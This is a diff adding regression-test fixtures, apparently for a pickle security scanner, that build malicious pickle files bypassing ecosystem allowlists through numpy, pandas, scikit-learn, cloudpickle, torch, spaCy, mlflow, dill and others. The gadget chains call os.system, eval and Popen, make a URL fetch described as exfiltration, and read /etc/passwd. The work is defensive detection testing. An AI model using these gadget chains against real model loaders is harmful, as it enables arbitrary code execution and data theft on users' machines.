@@ -400,6 +400,112 @@ def malicious():
     mal("eop_payload_then_bad_memo.pkl", p4(call1(sg("os", "system"), sbu("id")) + binget(200)),
         ["posix.system"], "os.system, then a GET of a memo entry never stored", "arXiv:2508.19774")
     joblib_like()
+    ecosystem_gadgets()
+
+
+def ecosystem_gadgets():
+    """Issue 18: one case per gadget class that lives inside a module the ecosystem profiles now allow (numpy,
+    pandas, scikit-learn, spaCy, torch, cloudpickle's helpers), or that reaches a loader; each must stay caught."""
+    ref = "issue 18"
+    evil = p4(call1(sg("os", "system"), sbu("echo pwned")))
+    # numpy.size(obj, key) is obj.shape[key]: BUILD puts numpy.__builtins__ in numpy.size's state, then
+    # numpy.size(numpy.size, 'eval') returns builtins.eval (the public numpy allowlist bypass).
+    mal("eco_numpy_builtins_size.pkl",
+        p4(sg("numpy", "size") + MEMOIZE + sg("numpy", "__builtins__") + MEMOIZE + binget(0) + EMPTY_DICT + EMPTY_DICT
+           + sbu("shape") + binget(1) + SETITEM + TUPLE2 + BUILD + binget(0) + binget(0) + sbu("eval") + TUPLE2
+           + REDUCE + sbu('__import__("os").system("echo pwned")') + TUPLE1 + REDUCE),
+        ["numpy.__builtins__", "numpy.size"], "numpy.size over state poisoned with numpy.__builtins__", ref)
+    # getattr is judged by what it reaches: an allowlisted function's dunder attribute is not allowlisted.
+    mal("eco_getattr_allowed_function_globals.pkl",
+        p4(sg("builtins", "getattr") + sg("sklearn.utils.validation", "check_array") + sbu("__globals__") + TUPLE2
+           + REDUCE),
+        ["__globals__"], "getattr(check_array, '__globals__') from an allowlisted function", ref)
+    mal("eco_getattr_allowed_class_query.pkl",
+        p4(sg("builtins", "getattr") + sg("pandas", "DataFrame") + sbu("query") + TUPLE2 + REDUCE + EMPTY_DICT
+           + sbu("__import__('os').system('echo pwned')") + TUPLE2 + REDUCE),
+        ["pandas.DataFrame.query"], "getattr(pandas.DataFrame, 'query') reaches pandas' expression evaluator", ref)
+    # BUILD state poisoning of an allowlisted class and of partial(allowlisted function).
+    mal("eco_build_poisons_allowed_class.pkl",
+        p4(sg("sklearn.utils._bunch", "Bunch") + EMPTY_DICT + sbu("__reduce__") + sg("os", "system") + SETITEM + BUILD),
+        ["sklearn.utils._bunch.Bunch", "posix.system"], "BUILD writes attributes of an allowlisted class", ref)
+    mal("eco_partial_check_array_rebound.pkl",
+        p4(call1(sg("functools", "partial"), sg("sklearn.utils.validation", "check_array")) + MARK + sg("os", "system")
+           + sbu("echo pwned") + TUPLE1 + EMPTY_DICT + NONE + TUPLE + BUILD + EMPTY_TUPLE + REDUCE),
+        ["functools.partial", "posix.system"], "HistGradientBoosting's partial(check_array) rebound to os.system", ref)
+    # copyreg routes to Popen: as the base whose __init__ _reconstructor runs, and through __newobj__.
+    mal("eco_copyreg_reconstructor_popen_base.pkl",
+        p4(sg("copyreg", "_reconstructor") + sg("pandas", "DataFrame") + sg("subprocess", "Popen") + EMPTY_LIST
+           + sbu("echo") + APPEND + sbu("pwned") + APPEND + TUPLE3 + REDUCE),
+        ["subprocess.Popen"], "copyreg._reconstructor(DataFrame, Popen, args) runs Popen.__init__(obj, args)", ref)
+    mal("eco_copyreg_newobj_popen.pkl",
+        p4(sg("copyreg", "__newobj__") + sg("subprocess", "Popen") + sbu("echo pwned") + TUPLE2 + REDUCE),
+        ["subprocess.Popen"], "copyreg.__newobj__(Popen, …)", ref)
+    # cloudpickle's _builtin_type is getattr(types, name): CodeType builds code, MethodType binds os.system.
+    mal("eco_cloudpickle_codetype.pkl",
+        p4(call1(sg("cloudpickle.cloudpickle", "_builtin_type"), sbu("CodeType")) + MARK + b"K\x00" * 6
+           + sbb(b"d\x00S\x00") + TUPLE + REDUCE),
+        ["types.CodeType"], "cloudpickle._builtin_type('CodeType') builds a code object", ref)
+    mal("eco_cloudpickle_methodtype_system.pkl",
+        p4(call1(sg("cloudpickle.cloudpickle", "_builtin_type"), sbu("MethodType")) + sg("os", "system")
+           + sbu("echo pwned") + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE),
+        ["posix.system"], "MethodType(os.system, 'echo pwned')() through cloudpickle._builtin_type", ref)
+    # pandas read_csv(url), mlflow and bottleneck helpers.
+    mal("eco_pandas_read_csv_url.pkl",
+        p4(call1(sg("pandas.io.parsers.readers", "read_csv"), sbu("http://127.0.0.1:9/?pwned"))),
+        ["pandas.io.parsers.readers.read_csv"], "pandas read_csv(url) exfiltrates (modelscan #338)", ref)
+    mal("eco_pandas_read_pickle.pkl",
+        p4(call1(sg("pandas", "read_pickle"), sbu("/tmp/evil.pkl"))),
+        ["pandas.read_pickle"], "pandas.read_pickle loads another pickle", ref)
+    mal("eco_mlflow_run_entry_point.pkl",
+        p4(sg("mlflow.projects.backend.local", "_run_entry_point") + MARK + sbu("echo pwned") + sbu(".") + sbu("")
+           + sbu("") + TUPLE + REDUCE),
+        ["mlflow.projects.backend.local._run_entry_point"], "mlflow _run_entry_point runs a command (modelscan #338)",
+        ref)
+    mal("eco_bottleneck_autotimeit.pkl",
+        p4(call1(sg("bottleneck.benchmark.autotimeit", "autotimeit"), sbu("__import__('os').system('echo pwned')"))),
+        ["bottleneck.benchmark.autotimeit.autotimeit"], "bottleneck's autotimeit runs timeit on a source string", ref)
+    # Nested pickles handed as bytes to loaders: torch config modules, datapipe decoders, an unknown loader, and
+    # spaCy's allowlisted unpickle_doc (whose bytes are analysed, so an allowlisted loader is no way in).
+    mal("eco_nested_torch_config_load.pkl",
+        p4(sg("torch.utils._config_module", "ConfigModule.load_config") + sg("torch._inductor", "config")
+           + sbb(evil) + TUPLE2 + REDUCE),
+        ["posix.system", "unpickles"], "ConfigModule.load_config(module, pickle bytes)", ref)
+    mal("eco_nested_datapipe_decoder.pkl",
+        p4(sg("torch.utils.data.datapipes.utils.decoder", "basichandlers") + sbu("pickle") + sbb(evil) + TUPLE2
+           + REDUCE),
+        ["posix.system", "unpickles"], "datapipe basichandlers('pickle', bytes) unpickles them", ref)
+    mal("eco_nested_unknown_loader.pkl",
+        p4(call1(sg("somepkg.io", "load_blob"), sbb(evil))),
+        ["posix.system", "somepkg.io.load_blob"], "pickle bytes handed to an unknown callable are analysed", ref)
+    mal("eco_nested_spacy_unpickle_doc.pkl",
+        p4(sg("spacy.tokens.doc", "unpickle_doc") + NONE + sbb(evil) + sbb(b"") + TUPLE3 + REDUCE),
+        ["posix.system", "spacy.tokens.doc.unpickle_doc"], "spaCy's allowlisted unpickle_doc given a malicious pickle",
+        ref)
+    mal("eco_nested_dill_loads.pkl",
+        p4(call1(sg("dill._dill", "loads"), sbb(evil))),
+        ["posix.system"], "dill.loads of pickle bytes", ref)
+    # Legacy torch.save: persistent_load returns the class of ('module', cls, file, source).
+    mal("eco_legacy_torch_module_persid.pkl",
+        p2(MARK + sbu("module") + glob("os", "system") + sbu("x.py") + sbu("") + TUPLE + b"Q" + sbu("echo pwned")
+           + TUPLE1 + NEWOBJ),
+        ["posix.system"], "a legacy torch ('module', os.system, …) persistent id instantiated with NEWOBJ", ref)
+    # TorchScript's identity helpers pass values through: what they return is still judged.
+    mal("eco_torchscript_identity_passthrough.pkl",
+        p4(sg("torch.jit._pickle", "restore_type_tag") + sg("os", "system") + sbu("List[int]") + TUPLE2 + REDUCE
+           + sbu("echo pwned") + TUPLE1 + REDUCE),
+        ["posix.system"], "restore_type_tag(os.system, …) returns os.system, which is then called", ref)
+    # A class allowed for NEWOBJ only, called with REDUCE (its __init__ reads model_file).
+    mal("eco_new_only_bert_call.pkl",
+        p4(sg("transformers.models.bert.modeling_bert", "BertModel") + sg("transformers.models.bert.configuration_bert",
+           "BertConfig") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + sbu("_attn_implementation")
+           + sbu("kernels-community/evil") + SETITEM + BUILD + TUPLE1 + REDUCE),
+        ["transformers.models.bert.modeling_bert.BertModel", "NEWOBJ only"],
+        "BertModel(config) runs PreTrainedModel.__init__, which may fetch a hub kernel the config names", ref,
+        verdict="suspicious")
+    mal("eco_new_only_booster_call.pkl",
+        p4(call1(sg("lightgbm.basic", "Booster"), sbu("/etc/passwd"))),
+        ["lightgbm.basic.Booster", "NEWOBJ only"], "Booster('/etc/passwd') runs __init__, which reads the file", ref,
+        verdict="suspicious")
 
 
 def joblib_like():
